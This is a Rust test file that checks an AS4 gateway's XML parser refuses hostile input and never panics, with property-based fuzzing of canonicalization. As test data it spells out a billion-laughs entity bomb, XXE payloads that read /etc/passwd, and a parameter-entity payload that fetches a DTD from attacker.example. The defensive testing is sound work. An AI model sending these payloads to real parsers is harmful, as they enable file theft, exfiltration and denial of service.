//! Hostile input: each attack is refused with the `XmlError` that names it, never a panic, and
//! never by doing the expensive thing first (no entity is expanded, no file or URL is read).

use std::time::{Duration, Instant};

use as4gw::xml::{
    canonicalize_document, canonicalize_subtree, C14nAlgorithm, C14nOptions, Document, Limits,
    XmlError,
};
use proptest::prelude::*;

use crate::support::read_fixture;

#[track_caller]
fn refused(input: &[u8]) -> XmlError {
    let t = Instant::now();
    let e = Document::parse(input).expect_err("must be refused");
    assert!(
        t.elapsed() < Duration::from_secs(2),
        "refusal took {:?}",
        t.elapsed()
    );
    e
}

/// XML 1.0 §3.1: `a="1"b="2"` is not well-formed (quick-xml alone reads two attributes);
/// a quote of the other kind inside a value is no separator.
#[test]
fn attributes_without_white_space_between_refused() {
    for input in [
        &b"<a x=\"1\"y=\"2\"/>"[..],
        b"<r><a x='1'y='2'>t</a></r>",
        b"<a x=\"'\" y='\"'z=\"1\"/>",
    ] {
        let e = refused(input);
        assert!(
            e.to_string().contains("separated by white space"),
            "{}: {e}",
            String::from_utf8_lossy(input)
        );
    }
    for input in [
        &b"<a x=\"1\" y=\"2\"/>"[..],
        b"<a x=\"'\"\ty='\"'\nz=\"1\" />",
    ] {
        assert!(
            Document::parse(input).is_ok(),
            "{}",
            String::from_utf8_lossy(input)
        );
    }
}

#[test]
fn billion_laughs_refused_before_expansion() {
    let mut x = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        let refs = format!("&{prev};").repeat(10);
        x.push_str(&format!(" <!ENTITY lol{i} \"{refs}\">\n"));
    }
    x.push_str("]>\n<lolz>&lol9;</lolz>");
    assert_eq!(refused(x.as_bytes()), XmlError::DtdRefused);
}

#[test]
fn xxe_system_entity_refused() {
    let x = br#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    assert_eq!(refused(x), XmlError::DtdRefused);
    // Without the DTD the reference is an undeclared entity, not a file read.
    assert_eq!(
        refused(b"<foo>&xxe;</foo>"),
        XmlError::UnknownEntity("xxe".into())
    );
    assert_eq!(
        refused(b"<foo a='&xxe;'/>"),
        XmlError::UnknownEntity("xxe".into())
    );
}

#[test]
fn parameter_entity_refused() {
    let x = br#"<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">%dtd;]><data>&send;</data>"#;
    assert_eq!(refused(x), XmlError::DtdRefused);
    // An external DTD subset alone, and a DOCTYPE after a comment: same answer.
    assert_eq!(
        refused(br#"<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>"#),
        XmlError::DtdRefused
    );
    assert_eq!(refused(b"<!-- c --><!DOCTYPE a><a/>"), XmlError::DtdRefused);
}

#[test]
fn deep_nesting_refused() {
    let depth = 10_000;
    let x = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    assert_eq!(
        refused(x.as_bytes()),
        XmlError::TooDeep(Limits::default().max_depth)
    );
    // Exactly at the limit is fine, and canonicalizes (the writer recurses once per level).
    let max = Limits::default().max_depth;
    let x = format!("{}{}", "<a>".repeat(max), "</a>".repeat(max));
    let doc = Document::parse(x.as_bytes()).expect("at the limit");
    let mut out = Vec::new();
    canonicalize_document(&doc, &C14nOptions::default(), &mut out);
    assert_eq!(out, x.as_bytes());
}

#[test]
fn hundred_thousand_attributes_refused() {
    let mut x = String::from("<a");
    for i in 0..100_000 {
        x.push_str(&format!(" a{i}=\"v\""));
    }
    x.push_str("/>");
    assert_eq!(
        refused(x.as_bytes()),
        XmlError::TooManyAttributes(Limits::default().max_attributes)
    );
    // Namespace declarations count too: they cost the canonicalizer as much as attributes.
    let mut x = String::from("<a");
    for i in 0..1_000 {
        x.push_str(&format!(" xmlns:p{i}=\"urn:{i}\""));
    }
    x.push_str("/>");
    assert_eq!(
        refused(x.as_bytes()),
        XmlError::TooManyAttributes(Limits::default().max_attributes)
    );
}

#[test]
fn oversize_document_refused() {
    let limit = Limits::default().max_bytes;
    let mut x = b"<a>".to_vec();
    x.resize(limit + 1 - 4, b'x');
    x.extend_from_slice(b"</a>");
    assert_eq!(x.len(), limit + 1);
    assert_eq!(
        refused(&x),
        XmlError::TooLarge {
            size: limit + 1,
            limit
        }
    );
    // A caller-chosen limit applies before any parsing.
    let small = Limits {
        max_bytes: 10,
        ..Limits::default()
    };
    assert_eq!(
        Document::parse_with(b"<a>0123456789</a>", &small).unwrap_err(),
        XmlError::TooLarge {
            size: 17,
            limit: 10
        }
    );
}

#[test]
fn too_many_nodes_refused() {
    let x = format!("<a>{}</a>", "<b/>".repeat(1000));
    let limits = Limits {
        max_nodes: 100,
        ..Limits::default()
    };
    assert_eq!(
        Document::parse_with(x.as_bytes(), &limits).unwrap_err(),
        XmlError::TooManyNodes(100)
    );
}

#[test]
fn invalid_utf8_refused() {
    assert!(matches!(refused(b"<a>\xC3\x28</a>"), XmlError::Encoding(_)));
    assert!(matches!(refused(b"<a v=\"\xFF\"/>"), XmlError::Encoding(_)));
    // Overlong encoding of '<' and a UTF-16 surrogate in UTF-8.
    assert!(matches!(refused(b"<a>\xC0\xBC</a>"), XmlError::Encoding(_)));
    assert!(matches!(
        refused(b"<a>\xED\xA0\x80</a>"),
        XmlError::Encoding(_)
    ));
    // UTF-16 with an odd byte count, and an encoding we do not read.
    assert!(matches!(refused(b"\xFF\xFE<\x00a"), XmlError::Encoding(_)));
    assert!(matches!(
        refused(b"<?xml version=\"1.0\" encoding=\"EBCDIC-US\"?><a/>"),
        XmlError::Encoding(_)
    ));
}

#[test]
fn nul_character_reference_refused() {
    assert_eq!(refused(b"<a>&#0;</a>"), XmlError::BadCharRef("#0".into()));
    assert_eq!(refused(b"<a>&#x0;</a>"), XmlError::BadCharRef("#x0".into()));
    assert_eq!(
        refused(b"<a v=\"&#x0;\"/>"),
        XmlError::BadCharRef("#x0".into())
    );
    // Other characters XML 1.0 excludes, by reference and literally.
    assert_eq!(
        refused(b"<a>&#xFFFE;</a>"),
        XmlError::BadCharRef("#xFFFE".into())
    );
    assert_eq!(
        refused(b"<a>&#x110000;</a>"),
        XmlError::BadCharRef("#x110000".into())
    );
    assert!(matches!(
        refused(b"<a>\x00</a>"),
        XmlError::Malformed { .. }
    ));
    assert!(matches!(
        refused(b"<a>\x1B</a>"),
        XmlError::Malformed { .. }
    ));
}

// ---------------------------------------------------------------------------------------------
// Property: nothing panics

/// Parses; on success canonicalizes the document and every element subtree, exclusive and
/// inclusive, with and without comments. Only a panic can fail this.
fn exercise(input: &[u8]) {
    let Ok(doc) = Document::parse(input) else {
        return;
    };
    let opts = [
        C14nOptions::default(),
        C14nOptions {
            with_comments: true,
            ..C14nOptions::with_prefix_list("#default a S12 wsu")
        },
        C14nOptions {
            algorithm: C14nAlgorithm::Inclusive,
            ..C14nOptions::default()
        },
    ];
    let mut out = Vec::new();
    for o in &opts {
        canonicalize_document(&doc, o, &mut out);
        for e in doc.elements() {
            out.clear();
            canonicalize_subtree(&doc, e.id(), o, &mut out);
            // Canonical output is itself well-formed XML.
            assert!(
                Document::parse(&out).is_ok(),
                "canonical output does not parse: {}",
                String::from_utf8_lossy(&out)
            );
        }
    }
}

/// The signed AS4 receipt (HTTP header block stripped) and a few c14n vector inputs.
fn seeds() -> Vec<Vec<u8>> {
    vec![
        super::helger_envelope(),
        read_fixture("c14n/generated/35-as4-body-domibus-style/input.xml"),
        read_fixture("c14n/generated/37-ns-flip-flop/input.xml"),
        read_fixture("c14n/w3c-interop/merlin-exc-c14n-one/exc-signature.xml"),
    ]
}

#[derive(Debug, Clone)]
enum Mutation {
    Set(usize, u8),
    Delete(usize, usize),
    Insert(usize, &'static str),
    Truncate(usize),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(i, b)| Mutation::Set(i, b)),
        (any::<usize>(), 1usize..64).prop_map(|(i, n)| Mutation::Delete(i, n)),
        (
            any::<usize>(),
            prop::sample::select(vec![
                "<",
                ">",
                "&",
                "&#0;",
                "&#x1F600;",
                "]]>",
                "<!--",
                "-->",
                "<![CDATA[",
                "\"",
                "'",
                "xmlns=\"\"",
                " xmlns:wsu=\"urn:x\"",
                " a:b=\"c\"",
                "<?pi x?>",
                "<!DOCTYPE x>",
                "\u{FEFF}",
                "\r\n",
                "\u{0}",
                ":",
                "</S12:Body>",
                "<x>",
            ])
        )
            .prop_map(|(i, s)| Mutation::Insert(i, s)),
        any::<usize>().prop_map(Mutation::Truncate),
    ]
}

fn apply(mut doc: Vec<u8>, muts: &[Mutation]) -> Vec<u8> {
    for m in muts {
        let len = doc.len().max(1);
        match *m {
            Mutation::Set(i, b) => {
                if !doc.is_empty() {
                    doc[i % len] = b;
                }
            }
            Mutation::Delete(i, n) => {
                let start = (i % len).min(doc.len());
                let end = (start + n).min(doc.len());
                doc.drain(start..end);
            }
            Mutation::Insert(i, s) => {
                let at = (i % len).min(doc.len());
                doc.splice(at..at, s.bytes());
            }
            Mutation::Truncate(i) => doc.truncate(i % len),
        }
    }
    doc
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        exercise(&bytes);
    }

    #[test]
    fn xml_like_noise_never_panics(parts in prop::collection::vec(
        prop::sample::select(vec!["<a>", "</a>", "<b:c xmlns:b='u:b'>", "</b:c>", "<d/>", "x", "&amp;", "&#xD;",
            "<!--c-->", "<?p d?>", "<![CDATA[<]]>", " a='1'", "xmlns=''", "<e xml:lang='x'>", "</e>", "\r\n"]),
        0..40)) {
        exercise(parts.concat().as_bytes());
    }

    #[test]
    fn mutated_envelopes_never_panic(which in 0usize..4, muts in prop::collection::vec(mutation(), 1..6)) {
        let seeds = seeds();
        exercise(&apply(seeds[which].clone(), &muts));
    }
}

/// The unmutated seeds parse and canonicalize (the mutation property starts from valid input).
#[test]
fn seeds_are_valid() {
    for s in seeds() {
        Document::parse(&s).expect("seed parses");
        exercise(&s);
    }
}
